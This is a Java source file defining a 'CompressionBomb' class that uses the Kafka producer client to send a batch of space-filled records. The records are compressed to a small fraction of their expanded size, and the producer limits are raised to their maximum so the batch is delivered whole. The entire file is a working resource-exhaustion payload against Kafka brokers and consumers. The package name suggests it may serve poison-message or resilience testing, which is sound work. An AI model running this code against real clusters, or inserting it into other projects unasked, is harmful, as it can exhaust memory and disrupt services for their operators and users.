package io.weir.poison;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Future;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.serialization.ByteArraySerializer;

/**
 * Records of spaces, compressed into one batch that is a small part of their size.
 *
 * @param codec as of {@code compression.type}
 * @param bytes of each value
 */
public record CompressionBomb(String codec, int records, int bytes) {
    private static final int ENOUGH = 1 << 28;

    /**
     * Sends the batch; returns once the broker has taken it, whole or in parts.
     *
     * @throws ExecutionException when the broker refuses it
     */
    public void send(String bootstrapServers, String topic, int partition)
            throws ExecutionException, InterruptedException {
        byte[] value = new byte[bytes];
        Arrays.fill(value, (byte) ' ');
        Map<String, Object> settings = Map.of(
                "bootstrap.servers",
                bootstrapServers,
                "compression.type",
                codec,
                "max.request.size",
                ENOUGH,
                "buffer.memory",
                ENOUGH,
                "batch.size",
                ENOUGH / 2,
                "linger.ms",
                60_000);
        try (KafkaProducer<byte[], byte[]> producer =
                new KafkaProducer<>(settings, new ByteArraySerializer(), new ByteArraySerializer())) {
            List<Future<RecordMetadata>> sent = new ArrayList<>();
            for (int i = 0; i < records; i++) {
                sent.add(producer.send(new ProducerRecord<>(topic, partition, new byte[] {'k'}, value)));
            }
            producer.flush();
            for (Future<RecordMetadata> one : sent) {
                one.get();
            }
        }
    }
}
